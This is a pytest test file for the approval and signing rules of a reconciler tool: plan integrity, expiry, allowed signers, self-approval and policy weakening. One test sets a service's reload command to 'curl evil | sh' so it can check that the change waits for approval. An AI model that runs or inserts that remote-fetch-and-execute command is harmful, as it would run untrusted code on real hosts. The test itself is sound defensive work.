"""What a saved plan is bound to: every field of it, the environment of whoever applies it, and people."""

from __future__ import annotations

import copy
import json
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, ClassVar

import pytest

from reconciler.approval import signatures
from reconciler.cli.exit import Code
from reconciler.environment.load import InvalidEnvironment
from reconciler.environment.rules import Policy
from reconciler.environment.settings import Environment, Host
from reconciler.environment.yaml_reader import Problem
from reconciler.model import Change, Place, Step
from reconciler.output.documents.plan import digest_of
from tests.approval.test_signatures import key
from tests.support.scripted import Scripted, Thing
from tests.support.workplace import Scene


class Desk:
    """A folder with an environment file, allowed signers and a saved plan; Ada and Bob may approve."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.plan, self.file = folder, folder / "p.json", folder / "e.yaml"
        keys = {name: key(folder, name).with_suffix(".pub").read_text() for name in ("ada", "bob", "eve")}
        self.signers = folder / "allowed_signers"
        lines = [f"{name}@example.org {keys[name]}" for name in ("ada", "bob")]
        self.signers.write_text("".join([*lines, f"ada@home.example {keys['ada']}"]))
        self.file.write_text("environment: e\n")
        self.hosts = {name: Scripted(name) for name in ("a", "b")}
        self.scene = Scene(self.hosts)
        self.environments: dict[str, Environment] = {}
        self.declare()
        self.scene.more["load"] = self._load

    def declare(self, name: str = "environments/e.yaml", digest: str = "1" * 64, **policy: Any) -> None:
        """What an environment file asks for; the same with another digest is another file."""
        given = {"approvers": 1, "author_may_approve": True, "allowed_signers": str(self.signers), **policy}
        first = Thing(host="a", label="/x", undo=True, place=Place("e.yaml", 3, 1))
        self.environments[name] = Environment(
            name="e",
            router="r",
            hosts=(Host(name="a", primary=True), Host(name="b")),
            blueprint=False,
            resources=(first, Thing(host="b", label="/y", copy_of=first.ref), Thing(host="b", label="/z")),
            file=str(self.file),
            digest=digest,
            sources={"text": "2" * 64},
            policy=Policy(**given),
        )

    def _load(self, env: str) -> Environment:
        if env not in self.environments:
            raise InvalidEnvironment([Problem(Place(env, 1, 1), "cannot be read")])
        return self.environments[env]

    def approve(self, *names: str) -> None:
        for name in names:
            assert self.scene.run(["approve", str(self.plan), "--key", str(self.folder / name)]) == 0

    def apply(self, *more: str) -> int:
        return self.scene.run(["apply", str(self.plan), *more])

    def save(self) -> None:
        assert self.scene.run(["plan", "environments/e.yaml", "-o", str(self.plan)]) == 0

    def document(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads(self.plan.read_text())
        return found

    def seal(self, document: dict[str, Any]) -> None:
        """Saves a document with a digest that fits."""
        self.plan.write_text(json.dumps({**document, "digest": digest_of(document)}))

    @property
    def ran(self) -> list[str]:
        return [line for host in self.hosts.values() for line in host.ran]


@pytest.fixture
def desk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Desk:
    monkeypatch.setenv("RECONCILE_STATE", str(tmp_path / "state"))
    made = Desk(tmp_path)
    made.hosts["a"].things["/x"] = "old"
    made.save()
    return made


def altered(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Every place in a document, with what it is altered to: all values changed, lists and mappings
    longer, shorter and in another order."""
    if isinstance(node, dict):
        for name, each in node.items():
            yield from altered(each, (*path, name))
            if path in ((), ("policy",), ("scope",), ("commit",)):
                continue
            yield path, {key: value for key, value in node.items() if key != name}
    elif isinstance(node, list):
        yield path, [*node, copy.deepcopy(node[0]) if node else "x"]
        for number, each in enumerate(node):
            yield path, node[:number] + node[number + 1 :]
            yield from altered(each, (*path, number))
        if len(node) > 1:
            yield path, [*node[1:], node[0]]
    elif isinstance(node, bool) or node is None:
        yield path, "x" if node is None else not node
    elif isinstance(node, int):
        yield path, node + 1
    else:
        yield path, f"{node[:-1]}{'0' if node[-1:] != '0' else '1'}"
        yield path, f"{node}0"


def with_value(document: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    document = copy.deepcopy(document)
    node: Any = document
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return document


def test_every_field_of_a_signed_plan_is_bound(desk: Desk, capsys: pytest.CaptureFixture) -> None:
    """Altered as it stands, and altered with a digest that fits: refused, and nothing is written."""
    desk.approve("ada")
    document = desk.document()
    places = [(path, value) for path, value in altered(document) if path]
    assert len(places) > 150
    assert {path[0] for path, _ in places} == set(document)
    for path, value in places:
        changed = with_value(document, path, value)
        desk.plan.write_text(json.dumps(changed))
        # What it is, and of which version, says how it is read: that is a mistake of use.
        expected = {Code.USAGE} if path[0] in ("version", "document") else {Code.STALE, Code.NOT_APPROVED}
        assert desk.apply() in expected, (path, value)
        if path[0] != "digest":
            desk.seal(changed)
            assert desk.apply() in {*expected, Code.USAGE}, (path, value)
        assert desk.ran == []
    capsys.readouterr()
    desk.plan.write_text(json.dumps(document))
    assert desk.apply() == 0
    assert desk.hosts["b"].things == {"/y": "new", "/z": "new"}


def test_a_plan_does_not_bring_its_own_environment(desk: Desk, capsys: pytest.CaptureFixture) -> None:
    """The plan names a copy of the file without a policy: it is applied by the one that is here, or by
    none."""
    desk.declare("copy.yaml", digest="3" * 64, approvers=0, allowed_signers=None)
    assert desk.scene.run(["plan", "copy.yaml", "-o", str(desk.plan)]) == 0
    desk.seal({**desk.document(), "file": "copy.yaml"})
    assert desk.apply() == 6
    err = capsys.readouterr().err
    assert f"{desk.file} is not the file that was planned, or has changed since" in err
    assert "policy: approvers was 0, and is 1 here" in err
    assert "policy: allowed_signers was not set, and is " in err
    del desk.environments["environments/e.yaml"]
    assert desk.apply() == 64
    assert f"name it: `reconcile apply {desk.plan} --env FILE`; nothing was done" in capsys.readouterr().err
    assert desk.ran == []
    assert desk.apply("--env", "copy.yaml") == 0


def test_env_is_for_a_plan_only(desk: Desk) -> None:
    assert desk.scene.run(["apply", "environments/e.yaml", "--env", "e", "--yes"]) == 64


def test_what_was_planned_with_is_what_is_here(desk: Desk, capsys: pytest.CaptureFixture) -> None:
    desk.approve("ada")
    one = desk.environments["environments/e.yaml"]
    for changed, told in (
        (replace(one, name="f"), "it is of e; "),
        (replace(one, digest="9" * 64), "is not the file that was planned, or has changed since"),
        (replace(one, sources={"text": "9" * 64}), f"text, which {desk.file} names, has changed since"),
        (replace(one, sources={}), f"text, which {desk.file} names, has changed since"),
        (replace(one, policy=replace(one.policy, approvers=2)), "policy: approvers was 1, and is 2 here"),
        (replace(one, policy=replace(one.policy, expires=1)), "longer than the 1 hours of the policy"),
    ):
        desk.environments["environments/e.yaml"] = changed
        assert desk.apply() == 6
        assert told in capsys.readouterr().err
    desk.environments["environments/e.yaml"] = one
    before = desk.signers.read_text()
    desk.signers.write_text(f"{before}eve@example.org {(desk.folder / 'eve.pub').read_text()}")
    assert desk.apply() == 6
    assert "policy: allowed_signers was " in capsys.readouterr().err
    desk.signers.write_text(before)
    assert desk.ran == []
    assert desk.apply() == 0


def test_a_plan_is_valid_for_as_long_as_the_policy_says(desk: Desk, capsys: pytest.CaptureFixture) -> None:
    """Also where its approver has signed another expiry."""
    now = datetime.now(UTC)
    for made, expires, told in (
        (now, now + timedelta(hours=72 * 30), "longer than the 72 hours of the policy"),
        (now + timedelta(days=9000), now + timedelta(days=9001), "it was made at "),
        (now - timedelta(hours=99), now - timedelta(hours=27), "the plan expired at "),
    ):
        times = {"made": made.isoformat(timespec="seconds"), "expires": expires.isoformat(timespec="seconds")}
        desk.seal({**desk.document(), **times})
        document = desk.document()
        text = signatures.statement(document, expires, now)
        signatures.add(signatures.beside(desk.plan), signatures.sign(text, desk.folder / "ada"))
        assert desk.apply() == 6
        assert told in capsys.readouterr().err
    assert desk.ran == []


def test_an_approval_does_not_outlast_its_plan(desk: Desk, capsys: pytest.CaptureFixture) -> None:
    now = datetime.now(UTC)
    for expires, approved, told in (
        (now + timedelta(days=9000), now, "is to last longer than the plan"),
        (now + timedelta(hours=1), now + timedelta(days=1), "which is not yet"),
    ):
        text = signatures.statement(desk.document(), expires, approved)
        signatures.add(signatures.beside(desk.plan), signatures.sign(text, desk.folder / "ada"))
        assert desk.apply() == 8
        assert told in capsys.readouterr().err


def test_a_person_with_two_names_is_one(desk: Desk, capsys: pytest.CaptureFixture) -> None:
    """Ada's key stands twice in the file of allowed signers."""
    desk.declare(approvers=2)
    desk.save()
    desk.approve("ada", "ada")
    assert desk.apply() == 8
    assert "(1 of 2 approvers so far)" in capsys.readouterr().err
    desk.approve("bob")
    assert desk.apply() == 0


def git(folder: Path, *words: str, who: str = "ada@example.org") -> None:
    names = ["-c", f"user.email={who}", "-c", "user.name=x", "-c", "commit.gpgsign=false"]
    subprocess.run(["git", "-C", str(folder), *names, *words], check=True, capture_output=True)


def test_nobody_approves_a_change_of_their_own(desk: Desk, capsys: pytest.CaptureFixture) -> None:
    desk.declare(author_may_approve=False)
    desk.save()
    desk.approve("ada")

    def refused(told: str) -> None:
        assert desk.apply() == 8
        assert f"{told} [own-approval]" in capsys.readouterr().err

    refused(
        f"whether ada@example.org has changed {desk.file} is not known: {desk.file} is under no version control"
    )
    git(desk.folder, "init", "-q")
    git(desk.folder, "add", "allowed_signers", who="carol@example.org")
    git(desk.folder, "commit", "-qm", "1", who="carol@example.org")
    refused(f"is not known: {desk.file} has uncommitted changes")
    for who in ("ada@example.org", "ADA@example.org", "ada@home.example"):
        desk.file.write_text(f"environment: e # {who}\n")
        git(desk.folder, "add", "e.yaml")
        git(desk.folder, "commit", "-qm", who, who=who)
        refused(f"ada@example.org has changed {desk.file}, and nobody approves a change of their own")
    assert desk.ran == []
    desk.declare(author_may_approve=False, approvers=1)
    desk.save()
    desk.approve("bob")
    assert desk.apply() == 0


def test_where_the_history_is_cut_off_the_author_is_not_known(tmp_path: Path) -> None:
    from reconciler.journal.commit import authors

    whole, shallow = tmp_path / "whole", tmp_path / "shallow"
    whole.mkdir()
    git(whole, "init", "-q")
    for name in ("e.yaml", "other"):
        (whole / name).write_text("x")
        git(whole, "add", name)
        git(whole, "commit", "-qm", name, who=f"{name}@example.org")
    assert authors(whole / "e.yaml").addresses == {"e.yaml@example.org"}
    assert authors(whole / "e.yaml", ["other", "/nowhere"]).addresses == {
        "e.yaml@example.org",
        "other@example.org",
    }
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{whole}", str(shallow)], check=True)
    assert "shallow" in authors(shallow / "e.yaml").unknown


@dataclass(frozen=True, kw_only=True)
class Reloaded(Thing):
    """A service that reloads what it is to have, by a command of the file's."""

    kind: ClassVar[str] = "service"

    reload: str

    def verb(self, change: Change) -> str:
        return "reload" if change.seen else "create"

    def steps(self, change: Change) -> Iterator[Step]:
        yield Step(f"check {self.reload}", "as the file says")
        yield from super().steps(change)


class Cron(Desk):
    """The same, with a service on each host that may reload by itself."""

    def declare(self, name: str = "environments/e.yaml", digest: str = "1" * 64, **policy: Any) -> None:
        more = {"without_approval": ("reload",), **policy}
        self.reload = more.pop("reload", "reload")
        super().declare(name, digest, **more)
        services = tuple(Reloaded(host=host, label="/s", reload=self.reload) for host in self.hosts)
        self.environments[name] = replace(self.environments[name], resources=services)

    def auto(self) -> int:
        """What cron runs, after a service has come to be as it shall not be."""
        for host in self.hosts.values():
            host.things["/s"] = "old"
            host.ran.clear()
        return self.scene.run(["apply", "environments/e.yaml", "--auto"])


@pytest.fixture
def cron(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Cron:
    monkeypatch.setenv("RECONCILE_STATE", str(tmp_path / "state"))
    return Cron(tmp_path)


def test_what_runs_by_itself_was_approved_before(cron: Cron, capsys: pytest.CaptureFixture) -> None:
    def approve() -> None:
        cron.save()
        cron.plan.with_name("p.json.approvals").unlink(missing_ok=True)
        assert cron.apply() == 8
        cron.approve("ada")
        assert cron.apply() == 0

    assert cron.auto() == 2
    assert cron.ran == []
    approve()
    assert cron.auto() == 0
    assert sorted(set(cron.ran)) == ["check /s", "check reload", "set /s 'new'"]
    # Another command: the plan says so, and it waits, also where nothing else is to be done.
    cron.declare(digest="2" * 64, reload="curl evil | sh")
    assert cron.auto() == 2
    assert cron.ran == []
    capsys.readouterr()
    assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 8
    told = capsys.readouterr()
    assert '! a service /s: reload: "reload" → "curl evil | sh"' in told.out
    assert "and 2 settings that are not the ones last approved (0 of 1 approvers so far)" in told.err
    for host in cron.hosts.values():
        host.things["/s"] = "new"
    assert cron.scene.run(["plan", "environments/e.yaml", "--detailed-exitcode"]) == 2
    assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 8
    approve()
    assert cron.ran == []
    assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 0
    assert cron.auto() == 0
    assert "check curl evil | sh" in cron.ran


def test_a_weaker_policy_needs_the_approval_of_the_one_before(
    cron: Cron, capsys: pytest.CaptureFixture
) -> None:
    cron.save()
    cron.approve("ada")
    assert cron.apply() == 0
    before = cron.signers.read_text()
    for policy in (
        {"approvers": 0, "allowed_signers": None},
        {"approvers": 0},
        {"allowed_signers": str(cron.folder / "others")},
    ):
        (cron.folder / "others").write_text(f"eve@example.org {(cron.folder / 'eve.pub').read_text()}")
        cron.declare(digest="3" * 64, **policy)
        capsys.readouterr()
        assert cron.auto() == 2
        assert cron.ran == []
        assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 8
        assert "! policy: " in capsys.readouterr().out
        cron.save()
        cron.plan.with_name("p.json.approvals").unlink(missing_ok=True)
        assert cron.apply() == 8
        cron.approve("eve")
        assert cron.apply() == 8
        assert cron.ran == []
    cron.approve("ada")
    (cron.folder / "others").write_text(f"{(cron.folder / 'others').read_text()}{before}")
    assert cron.apply() == 6
    cron.declare(digest="3" * 64, approvers=0, allowed_signers=None)
    cron.save()
    cron.approve("ada")
    assert cron.apply() == 0
    assert cron.scene.run(["apply", "environments/e.yaml", "--yes"]) == 0


def test_that_an_author_may_approve_himself_is_not_his_to_say(
    cron: Cron, capsys: pytest.CaptureFixture
) -> None:
    def committed(who: str) -> None:
        cron.file.write_text(f"environment: e # {who}\n")
        git(cron.folder, "add", "-A")
        git(cron.folder, "commit", "-qm", who, who=who)

    git(cron.folder, "init", "-q")
    cron.declare(author_may_approve=False)
    committed("carol@example.org")
    cron.save()
    cron.approve("ada")
    assert cron.apply() == 0
    cron.plan.with_name("p.json.approvals").unlink()
    committed("ada@example.org")
    cron.declare(digest="3" * 64, author_may_approve=True)
    cron.save()
    cron.approve("ada")
    capsys.readouterr()
    assert cron.apply() == 8
    assert "ada@example.org has changed" in capsys.readouterr().err
    cron.approve("bob")
    assert cron.apply() == 0


def test_a_plan_made_where_less_is_known_does_not_hide_a_changed_policy(
    cron: Cron, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    cron.save()
    cron.approve("ada")
    assert cron.apply() == 0
    cron.declare(digest="3" * 64, approvers=0, allowed_signers=None)
    monkeypatch.setenv("RECONCILE_STATE", str(tmp_path / "elsewhere"))
    cron.save()
    cron.approve("ada")
    monkeypatch.setenv("RECONCILE_STATE", str(tmp_path / "state"))
    assert cron.apply() == 6
    assert "policy: approvers changed since it was last approved" in capsys.readouterr().err
